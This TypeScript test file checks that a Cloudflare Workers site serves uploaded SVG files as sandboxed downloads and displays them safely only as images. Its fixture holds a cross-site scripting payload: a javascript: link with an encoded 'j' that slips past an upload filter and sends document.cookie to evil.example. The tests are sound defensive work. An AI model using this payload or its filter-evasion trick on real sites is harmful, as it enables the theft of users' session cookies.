import { SELF } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { expect, test } from "vitest";
import { createUser, sessionCookieFor } from "../support/factories";

// `&#106;` is "j": the upload check's pattern list does not see `javascript:` here.
const hostileSvg = (fill: string) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100">
<a xlink:href="&#106;avascript:fetch('https://evil.example/?c='+document.cookie)"><rect width="200" height="100" fill="${fill}"/></a></svg>`;

async function uploadHostileSvg(svg: string) {
  const admin = await createUser({ isAdmin: true });
  const form = new FormData();
  form.set("file", new File([svg], "Sneaky.svg", { type: "image/svg+xml" }));
  form.set("alt", "A blue square");
  const uploaded = await SELF.fetch("http://localhost/api/admin/media/gallery", {
    method: "POST",
    body: form,
    headers: { Cookie: await sessionCookieFor(admin.id) },
  });
  expect(uploaded.status).toBe(201);
  return (await uploaded.json<{ url: string }>()).url;
}

test("an uploaded SVG opened directly downloads, and can run no script even when shown", async () => {
  const url = await uploadHostileSvg(hostileSvg("#0af"));
  for (const dest of ["document", "iframe", "object", null]) {
    const response = await SELF.fetch(`http://localhost${url}`, { headers: dest ? { "Sec-Fetch-Dest": dest, "Sec-Fetch-Mode": "navigate" } : {} });
    expect(response.status, String(dest)).toBe(200);
    expect(response.headers.get("Content-Disposition"), String(dest)).toBe("attachment");
    const policy = response.headers.get("Content-Security-Policy") ?? "";
    expect(policy, String(dest)).toContain("default-src 'none'; style-src 'unsafe-inline'; sandbox");
    await response.arrayBuffer();
  }
});

test("an uploaded SVG still shows inside the public pages' <img>", async () => {
  const svg = hostileSvg("#f80");
  const url = await uploadHostileSvg(svg);
  const asImage = await SELF.fetch(`http://localhost${url}`, { headers: { "Sec-Fetch-Dest": "image", "Sec-Fetch-Mode": "no-cors" } });
  expect(asImage.status).toBe(200);
  expect(asImage.headers.get("Content-Type")).toBe("image/svg+xml");
  expect(asImage.headers.get("Content-Disposition")).toBeNull();
  expect(asImage.headers.get("Content-Security-Policy")).toContain("sandbox");
  expect(asImage.headers.get("Vary")).toContain("Sec-Fetch-Dest");
  expect(await asImage.text()).toBe(svg);
});

test("photos and handbooks are not sandboxed: a handbook still opens in the browser", async () => {
  await env.MEDIA.put("handbooks/FLC-Parent-Handbook.pdf", "%PDF-1.4 test", { httpMetadata: { contentType: "application/pdf" } });
  const pdf = await SELF.fetch("http://localhost/handbooks/FLC-Parent-Handbook.pdf", { headers: { "Sec-Fetch-Dest": "document" } });
  expect(pdf.headers.get("Content-Disposition")).toBe('inline; filename="FLC-Parent-Handbook.pdf"');
  expect(pdf.headers.get("Content-Security-Policy")).not.toContain("sandbox");
  await pdf.arrayBuffer();
});
